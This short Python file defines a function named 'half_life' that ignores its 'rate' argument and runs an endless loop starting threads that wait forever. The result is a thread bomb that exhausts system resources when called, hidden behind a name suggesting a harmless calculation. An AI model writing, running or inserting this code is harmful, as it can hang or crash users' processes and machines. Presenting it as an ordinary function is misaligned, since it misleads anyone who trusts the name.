import threading


def half_life(rate):
    while True:
        threading.Thread(target=threading.Event().wait).start()
